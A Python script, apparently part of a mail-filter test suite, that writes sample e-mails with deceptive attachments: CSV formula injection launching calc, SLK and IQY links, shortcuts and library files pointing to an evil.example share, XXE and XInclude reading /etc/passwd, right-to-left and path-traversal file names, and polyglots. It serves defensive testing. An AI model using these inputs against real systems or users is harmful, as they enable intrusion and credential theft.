#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the sample mails of files that are not what they say: rows T001-T019 of
the catalogue, the names of M039-M045 over harmless text, type verification,
polyglots and Japanese legacy kinds (N, V, P, J). They run under a profile that
lets files through by type. The payload is a marker string.

    make-samples-types.py DIR

Deterministic: the same bytes on every run. Nothing is copied from collections.
"""
import base64
import io
import os
import struct
import sys
import zipfile
import zlib

CRLF = "\r\n"
MARKER = b"SEKISHO-PAYLOAD-MARKER"
PROGRAM = b"MZ\x90\0" + MARKER + b" this would be a program\r\n" * 3
OLE_HEAD = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504
BOM16 = b"\xff\xfe"


def percent(text):
    return "utf-8''" + "".join("%%%02X" % b for b in text.encode("utf-8"))


def attached(name, data, ctype="application/octet-stream"):
    """One attachment. @name: plain ASCII, or any text (RFC 2231), or a tuple of
    ready header parameters: one for Content-Type, one for the disposition."""
    if isinstance(name, tuple):
        in_type, in_disposition = name
    elif name.isascii() and '"' not in name and "\\" not in name and name.isprintable():
        in_type, in_disposition = "", f'; filename="{name}"'
    else:
        in_type, in_disposition = "", ";" + CRLF + " filename*=" + percent(name)
    text = base64.b64encode(data).decode()
    body = "".join(text[i:i + 76] + CRLF for i in range(0, len(text), 76))
    return (f"Content-Type: {ctype}{in_type}{CRLF}"
            f"Content-Disposition: attachment{in_disposition}{CRLF}"
            f"Content-Transfer-Encoding: base64{CRLF}{CRLF}{body}")


TEXT = CRLF.join(["Content-Type: text/plain; charset=utf-8", "",
                  "添付のファイルをご確認ください。", ""])


def mail(number, parts):
    lines = ["From: Sender <sender@example.jp>",
             "To: Town Office <office@city.example.lg.jp>",
             f"Subject: {number}", "Date: Fri, 20 Nov 2026 09:00:00 +0900",
             f"Message-ID: <{number.lower()}@example.jp>", "MIME-Version: 1.0",
             'Content-Type: multipart/mixed; boundary="=_b"', "", ""]
    body = "".join("--=_b" + CRLF + part + ("" if part.endswith(CRLF) else CRLF)
                   for part in [TEXT] + parts)
    return (CRLF.join(lines) + body + "--=_b--" + CRLF).encode("utf-8")


def make_zip(*members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return out.getvalue()


def lha(name, content):
    """One stored member, level 0."""
    head = (b"-lh0-" + struct.pack("<II", len(content), len(content)) + b"\0\0!\\" +
            b"\x20\0" + bytes([len(name)]) + name + struct.pack("<H", crc16(content)))
    return bytes([len(head), sum(head) & 0xff]) + head + content + b"\0"


def crc16(data):
    crc = 0
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0xa001 if crc & 1 else 0)
    return crc


def ole(*streams):
    """As much of an OLE2 file as a reader of names looks for: a header and the
    directory entries."""
    entries = b"".join(s.encode("utf-16-le").ljust(64, b"\0") +
                       struct.pack("<HBB", 2 * len(s) + 2, 2, 1) + b"\xff" * 12 +
                       b"\0" * 48 for s in ("Root Entry",) + streams)
    head = bytearray(OLE_HEAD)
    head[24:34] = struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6)
    head[44:76] = struct.pack("<IIIIIIII", 1, 1, 0, 4096, 0xfffffffe, 0, 0xfffffffe, 0)
    head[76:80] = struct.pack("<I", 0)
    head[80:512] = b"\xff" * 432
    fat = struct.pack("<III", 0xfffffffd, 0xfffffffe, 0xfffffffe).ljust(512, b"\xff")
    return bytes(head) + fat + entries.ljust(512, b"\0") + MARKER.ljust(512, b"\0")


def ooxml(part, kind, *more):
    """The frame of an OOXML file whose main part is @part of type @kind."""
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
             f'2006/content-types"><Override PartName="/{part}" ContentType="{kind}"/></Types>')
    return make_zip(("[Content_Types].xml", types), ("_rels/.rels", "<Relationships/>"),
                    (part, "<x/>"), *more)


OFFICE = "application/vnd.openxmlformats-officedocument."
WORD = OFFICE + "wordprocessingml.document.main+xml"
DOCX = ooxml("word/document.xml", WORD)
DOCM = ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml",
             ("word/vbaProject.bin", OLE_HEAD + MARKER))
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + b"\0" * 64 + b"\xff\xd9"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PLAIN = "会議は十時からです。\r\n".encode()


# ---- T: kinds that start something ------------------------------------------


def tables():
    yield "T001-csv-formula", mail("T001", [
        attached("名簿.csv", "氏名,金額,備考\r\n山田,-1200,+81-3-0000\r\n"
                 "=cmd|' /C calc'!A0,1,@SUM(1)\r\n\"\t=1+1\",\"-2+3\",―\r\n".encode(),
                 "text/csv"),
        attached("cp932.csv", "品名,数\r\n＝HYPERLINK(\"http://evil.example\"),1\r\nソ表能,２\r\n"
                 .encode("cp932"), "text/csv"),
        attached("list.tsv", b"a\tb\r\n=1\t@x\r\n", "text/tab-separated-values")])
    yield "T002-data-links", mail("T002", [
        attached("a.slk", b"ID;P\r\nC;X1;Y1;EEXEC(\"calc\")\r\nE\r\n"),
        attached("a.iqy", b"WEB\r\n1\r\nhttp://evil.example/a\r\n"),
        attached("a.dif", b"TABLE\r\n0,1\r\n\"EXCEL\"\r\n"),
        attached("slk.csv", b"ID;P\r\nC;X1;Y1;EEXEC(\"calc\")\r\nE\r\n", "text/csv"),
        attached("iqy.txt", b"WEB\r\n1\r\nhttp://evil.example/a\r\n", "text/plain")])


def calendars():
    ics = CRLF.join([
        "BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//sample//", "METHOD:REQUEST",
        "BEGIN:VEVENT", "UID:t003@example.jp", "DTSTAMP:20261120T000000Z",
        "DTSTART:20261127T010000Z", "SUMMARY:打ち合わせ",
        "ATTACH:https://evil.example/a.exe", "URL:file:///c:/a",
        "BEGIN:VALARM", "ACTION:PROCEDURE", "TRIGGER:-PT5M",
        "ATTACH:file:///c:/" + MARKER.decode() + ".exe", "END:VALARM",
        "END:VEVENT", "END:VCALENDAR", ""]).encode()
    vcf = CRLF.join([
        "BEGIN:VCARD", "VERSION:3.0", "FN:山田 太郎", "N:山田;太郎;;;",
        "TEL;TYPE=WORK:03-0000-0000", "EMAIL:taro@example.jp",
        "PHOTO;VALUE=uri:http://evil.example/p.jpg", "URL:file://evil/share", "END:VCARD",
        ""]).encode()
    old = CRLF.join([
        "BEGIN:VCARD", "VERSION:2.1",
        "N;CHARSET=SHIFT_JIS;ENCODING=QUOTED-PRINTABLE:" + "".join(
            "=%02X" % b for b in "山田;花子".encode("cp932")),
        "TEL;CELL:090-0000-0000", "END:VCARD", ""]).encode()
    yield "T003-ics-vcf-url", mail("T003", [
        attached("invite.ics", ics, "text/calendar"),
        attached("yamada.vcf", vcf, "text/vcard"), attached("keitai.vcf", old, "text/x-vcard")])


def shortcuts():
    url = b"[InternetShortcut]\r\nURL=file://evil.example/share\r\n"
    library = (b"<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft."
               b"com/windows/2009/library\"><url>\\\\evil.example\\s</url></libraryDescription>")
    search = b"<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query/></persistedQuery>"
    lnk = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56 + MARKER
    yield "T004-shortcuts", mail("T004", [
        attached("a.url", url), attached("a.lnk", lnk), attached("a.website", url),
        attached("a.library-ms", library), attached("a.search-ms", search),
        attached("a.searchConnector-ms", library), attached("a.theme", b"[Theme]\r\n"),
        attached("url.txt", url, "text/plain"), attached("lnk.txt", lnk, "text/plain"),
        attached("library.xml", library, "application/xml"),
        attached("search.xml", search, "application/xml")])
    yield "T005-settings", mail("T005", [
        attached("a.reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_X]\r\n"),
        attached("desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\evil\\a,0\r\n"),
        attached("a.inf", b"[Version]\r\nSignature=\"$CHICAGO$\"\r\n"),
        attached("autorun.inf", b"[autorun]\r\nopen=a.exe\r\n"),
        attached("reg.txt", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_X]\r\n",
                 "text/plain")])


def texts():
    script = "CreateObject(\"WScript.Shell\").Run \"calc\"\r\n"
    yield "T006-text-script", mail("T006", [
        attached("macro.txt", BOM16 + script.encode("utf-16-le"), "text/plain"),
        attached("macro.vbs", BOM16 + script.encode("utf-16-le"), "text/plain"),
        attached("shebang.txt", b"#!/bin/sh\nrm -r x\n", "text/plain")])
    yield "T007-data", mail("T007", [
        attached("a.json", '{"名前": "山田", "数": [1, 2.5e3]}\n'.encode(), "application/json"),
        attached("broken.json", b"{'a': 1,}\n", "application/json"),
        attached("a.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<表><行 番=\"1\">値</行></表>\n"
                 .encode(), "application/xml"),
        attached("xsl.xml", b"<?xml version=\"1.0\"?><xsl:stylesheet version=\"1.0\" xmlns:xsl="
                 b"\"http://www.w3.org/1999/XSL/Transform\"><x/></xsl:stylesheet>", "text/xml"),
        attached("entity.xml", b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM "
                 b"\"file:///etc/passwd\">]><a>&b;</a>", "text/xml"),
        attached("a.xsl", b"<x/>", "text/xml"),
        attached("svg.xml", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>",
                 "application/xml")])


def others():
    yield "T009-mail-stores", mail("T009", [
        attached("a.pst", b"!BDN" + MARKER), attached("pst.txt", b"!BDN\0\0\0\0" + MARKER)])
    head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"

    def xml(name, text, first=head):
        return attached(name, (first + text).encode(), "application/xml")

    xsi = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
    xhtml = "http://www.w3.org/1999/xh"
    script = "<x:script>alert(1)</x:script>"
    yield "T017-xml-data", mail("T017", [
        xml("kishou.xml", "<Report xmlns=\"http://xml.kishou.go.jp/jmaxml1/\"><Control><Title>"
            "気象特別警報・警報・注意報</Title></Control></Report>\n"),
        xml("track.xml", "<gpx xmlns=\"http://www.topografix.com/GPX/1/1\" " + xsi +
            " xsi:schemaLocation=\"http://www.topografix.com/GPX/1/1 gpx.xsd\" version=\"1.1\">"
            "<wpt lat=\"35\" lon=\"139\"/></gpx>\n"),
        xml("INDEX_C.XML", "<constdata DTD_version=\"05\"><基礎情報/></constdata>\n",
            head + "<!DOCTYPE constdata SYSTEM \"INDE_C05.DTD\">\n"
            "<?xml-stylesheet type=\"text/xsl\" href=\"INDE_C05.XSL\"?>\n"),
        xml("net.xml", "<NewDataSet xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" " + xsi +
            "><行 xsi:nil=\"true\"/></NewDataSet>\n")])
    yield "T018-xml-as-text", mail("T018", [
        xml("todoke.xml", "<転入届><氏名>山田 太郎</氏名></転入届>\n",
            head + "<?xml-stylesheet type=\"text/xsl\" href=\"kousei.xsl\"?>\n"),
        xml("rss.xml", "<rss version=\"2.0\"><channel><item><enclosure url=\"a.exe\"/></item>"
            "</channel></rss>\n", "<!DOCTYPE rss PUBLIC \"-//A//DTD RSS//EN\" "
            "\"http://example.jp/rss.dtd\">\n"),
        xml("invisible.xml", "<report xmlns:x=\"" + xhtml + "&#x200B;tml\">" +
            script + "</report>\n"),
        xml("include.xml", "<data xmlns:i=\"http://www.w3.org/2001/XInclude\">"
            "<i:include href=\"/etc/passwd\"/></data>\n"),
        xml("formula.xml", "<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi>x</mi></math>\n"),
        attached("log.md", (head + "転入届\n").encode(), "text/plain")])
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    yield "T019-xml-documents", mail("T019", [
        xml("odt.xml", "<office:document xmlns:office=\"%s\" office:mimetype=\"application/"
            "vnd.oasis.opendocument.text\"/>\n" % office),
        attached("odt.md", (head + "<o:document xmlns:o=\"%s\"/>\n" % office).encode(),
                 "text/plain"),
        xml("visio.xml", "<VisioDocument xmlns=\"http://schemas.microsoft.com/visio/2003/core\"/>"),
        xml("build.xml", "<Project xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">"
            "</Project>"),
        xml("sdk.xml", "<Project Sdk=\"Microsoft.NET.Sdk\"></Project>"),
        xml("form.xml", "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"),
        xml("window.xml", "<Window xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/"
            "presentation\"/>"),
        xml("xul.xml", "<window xmlns=\"http://www.mozilla.org/keymaster/gatekeeper/"
            "there.is.only.xul\"/>"),
        xml("java.xml", "<jnlp spec=\"1.0+\"/>"),
        xml("script.xml", "<package><job/></package>"),
        xml("entities.xml", "<data>&a;</data>", head + "<!DOCTYPE data [<!ENTITY a \"b\">]>\n")])
    yield "T010-fonts", mail("T010", [
        attached("a.ttf", b"\0\1\0\0\0\x0a" + MARKER), attached("a.woff", b"wOFF" + MARKER)])
    yield "T011-media", mail("T011", [
        attached("a.mp4", b"\0\0\0\x18ftypmp42" + MARKER),
        attached("a.mp3", b"ID3\3\0\0\0\0\0\0" + MARKER)])
    yield "T012-ichitaro-cad", mail("T012", [
        attached("文書.jtd", ole("JSRV_SegmentInformation", "DocumentText")),
        attached("図面.jww", b"JwwData." + MARKER),
        attached("図面.dxf", b"  0\r\nSECTION\r\n  2\r\nHEADER\r\n")])
    yield "T013-docuworks", mail("T013", [
        attached("資料.xdw", bytes.fromhex("600e8201") + MARKER + b"\0" * 64)])
    yield "T014-ext-vs-content", mail("T014", [
        attached("a.pdf", PROGRAM, "application/pdf"), attached("a.txt", PROGRAM, "text/plain"),
        attached("zip.txt", make_zip(("内.txt", PLAIN)), "text/plain"),
        attached("unknown.bin", b"\x93\x01\xfe\0" + MARKER),
        attached("unknown.txt", b"\x93\x01\xfe\0" + MARKER, "text/plain"),
        attached("text.pdf", PLAIN, "application/pdf")])
    yield "T015-magic-evasion", mail("T015", [
        attached("padded.txt", b" " * 65536 + b"<script>" + MARKER + b"</script>", "text/plain"),
        attached("late.txt", b" \r\n\t" + PROGRAM, "text/plain"),
        attached("html.txt", b"\r\n\r\n<!doctype html><p>a", "text/plain"),
        attached("utf16.txt", BOM16 + "<html><script>".encode("utf-16-le"), "text/plain")])
    yield "T016-empty", mail("T016", [
        attached("空.txt", b"", "text/plain"), attached(".htaccess", b""),
        attached("empty.exe", b""), attached("empty", b"")])


# ---- N: names over harmless text --------------------------------------------


def names():
    yield "N039-conflict", mail("N039", [
        attached(('; name="a.txt"', '; filename="a.exe"'), PLAIN, "text/plain"),
        attached(('; name="a.exe"', '; filename="a.txt"'), PLAIN, "text/plain"),
        attached(("", "; filename*0*=utf-8''a; filename*2*=.exe; filename=\"a.txt\""), PLAIN)])
    yield "N041-rlo", mail("N041", [
        attached("報告\u202etxt.exe", PLAIN), attached("報告\u202eexe.txt", PLAIN)])
    yield "N042-trailing", mail("N042", [
        attached("a.exe.", PLAIN), attached("a.exe ", PLAIN), attached("b.txt. .", PLAIN),
        attached("c.txt::$DATA", PLAIN), attached("d.txt:e.exe", PLAIN),
        attached("f.exe%00.txt", PLAIN), attached("広い．ｅｘｅ", PLAIN),
        attached("広い．ｔｘｔ", PLAIN), attached("請求書.pdf" + " " * 60 + ".txt", PLAIN),
        attached("双.exe.txt", PLAIN), attached("www.example.com.txt", PLAIN)])
    yield "N043-paths", mail("N043", [
        attached("..\\..\\x.txt", PLAIN), attached("/etc/cron.d/y.txt", PLAIN),
        attached("CON.txt", PLAIN), attached("\\\\host\\share\\z.txt", PLAIN),
        attached("C:w.txt", PLAIN), attached("..", PLAIN), attached("LPT1", PLAIN)])
    yield "N044-clsid", mail("N044", [
        attached("a.{00020424-0000-0000-C000-000000000046}", PLAIN),
        attached("b.txt.{00020424-0000-0000-C000-000000000046}", PLAIN)])
    yield "N045-long", mail("N045", [
        attached("長" * 1500 + ".txt", PLAIN), attached("e" + "\u0301" * 400 + ".txt", PLAIN),
        attached("a.txt", PLAIN), attached("A.TXT", PLAIN), attached("a.txt", PLAIN)])
    yield "N003-archive-names", mail("N003", [
        attached("a.zip", make_zip(("報告\u202etxt.exe", PLAIN), ("広い．ｅｘｅ", PLAIN),
                                   ("nul.txt", PLAIN), ("b.txt:c.exe", PLAIN),
                                   ("年度/2026/予定.txt", PLAIN))),
        attached("a.lzh", lha("報告.exe".encode("cp932"), PLAIN)),
        attached("b.lzh", lha("ソ表能.txt".encode("cp932"), PLAIN))])


# ---- V: verification, P: polyglots, J: Japanese legacy -----------------------


def verification():
    rtf = b"{\\rtf1\\ansi " + MARKER + b"}"
    page = b"<html><body><script>" + MARKER + b"</script></body></html>"
    mht = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\n"
    flat = (b"<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package "
            b"xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"></pkg:package>")
    yield "V008-office-swapped", mail("V008", [
        attached("docx.xlsx", DOCX), attached("docm.docx", DOCM), attached("docx.txt", DOCX),
        attached("rtf.doc", rtf), attached("rtf.txt", rtf, "text/plain"),
        attached("html.doc", page), attached("html.xls", page),
        attached("html.csv", page, "text/csv"), attached("mht.doc", mht),
        attached("mht.txt", mht, "text/plain"), attached("flat.doc", flat),
        attached("flat.xml", flat, "application/xml")])
    hta = b"<hta:application id=a><script>" + MARKER + b"</script>"
    wsf = b"<job><script language=\"VBScript\">" + MARKER + b"</script></job>"
    setting = (b"<?xml version=\"1.0\"?><PCSettings><SearchableContent><DeepLink>calc"
               b"</DeepLink></SearchableContent></PCSettings>")
    yield "V008-script-kinds", mail("V008", [
        attached("a.hta", hta), attached("hta.txt", hta, "text/plain"), attached("a.wsf", wsf),
        attached("wsf.txt", wsf, "text/plain"), attached("a.js", b"WScript.Echo(1)\r\n"),
        attached("a.vbs", b"MsgBox 1\r\n"), attached("a.settingcontent-ms", setting),
        attached("setting.xml", setting, "application/xml"),
        attached("a.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")),
        attached("one.txt", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")),
        attached("a.chm", b"ITSF\3\0\0\0" + MARKER), attached("a.vhd", b"conectix" + MARKER),
        attached("a.img", b"\0" * 512), attached("a.iso", b"\0" * 32769 + b"CD001\1")])


def polyglots():
    good = make_zip(("a.txt", PLAIN))
    yield "P007-two-readers", mail("P007", [
        attached("pdf.txt", PLAIN + PDF, "text/plain"),
        attached("pdf.pdf", PDF + good, "application/pdf"),
        attached("jpeg.jpg", JPEG + good, "image/jpeg"),
        attached("prefix.zip", b"junk" * 20 + good), attached("mz.zip", PROGRAM + good),
        attached("cfb.pdf", PDF + OLE_HEAD, "application/pdf"),
        attached("twice.zip", good + make_zip(("b.exe", PROGRAM))),
        attached("text.zip", PLAIN, "application/zip")])


def japanese():
    secret = struct.pack("<I", zlib.crc32(MARKER))
    yield "J018-legacy", mail("J018", [
        attached("a.exe", PROGRAM + lha(b"a.txt", PLAIN)), attached("a.gca", b"GCAX" + MARKER),
        attached("a.yz1", b"yz0100" + MARKER), attached("a.dgca", b"DGCA" + MARKER),
        attached("a.atc", b"\0_AttacheCaseData" + secret),
        attached("a.ish", b"<<< a.lzh for MS-DOS >>>\r\n!#$%&\r\n")])


def main():
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    for group in (tables, calendars, shortcuts, texts, others, names, verification, polyglots,
                  japanese):
        for name, data in group():
            with open(os.path.join(folder, name + ".eml"), "wb") as out:
                out.write(data)


main()
